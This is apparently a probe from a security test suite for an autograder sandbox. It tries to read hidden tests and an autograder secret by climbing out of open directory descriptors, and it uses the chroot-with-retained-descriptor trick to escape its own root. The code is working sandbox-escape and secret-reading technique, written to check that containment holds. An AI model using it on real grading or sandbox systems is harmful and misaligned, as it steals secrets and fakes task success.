"""Promise: the sandbox's root has no way up.

Reads the hidden suite by paths that climb, from each folder that is open; then goes into a root of its own with the old
one still open, and climbs out of both.

needs: root
alone: leaks suite, secret
alone: says climbed out of its own root
here: score 40
"""

import os
import stat

from tell import tell

PATHS = ("@COURSE@/assignments/target/tests/test_hidden.py", "@COURSE@/.autograder/secret")


def read(folder):
    found = 0
    for path in PATHS:
        for up in ("", "../" * 40):
            try:
                descriptor = os.open(up + path.lstrip("/"), os.O_RDONLY, dir_fd=folder)
                tell(os.read(descriptor, 1 << 16).decode())
                found += 1
                os.close(descriptor)
            except OSError:
                pass
    return found


def open_folders():
    for descriptor in range(256):
        try:
            if stat.S_ISDIR(os.fstat(descriptor).st_mode):
                yield descriptor
        except OSError:
            pass


def climb():
    for folder in [os.open("/", os.O_RDONLY), os.open(".", os.O_RDONLY), *open_folders()]:
        read(folder)
    try:
        outside = os.open("/", os.O_RDONLY)
        os.makedirs("jail-@MARK@/inner", exist_ok=True)
        os.chroot("jail-@MARK@")
        os.fchdir(outside)
        os.chdir("../" * 40)
        os.chroot(".")
        if read(os.open("/", os.O_RDONLY)):
            tell("climbed out of its own root")
    except OSError as error:
        print(error)


try:
    child = os.fork()
except OSError:
    climb()
else:
    if child == 0:
        try:
            climb()
        finally:
            os._exit(0)
    os.waitpid(child, 0)


def double(x):
    return 2 * x


def total(X):
    return -1.0
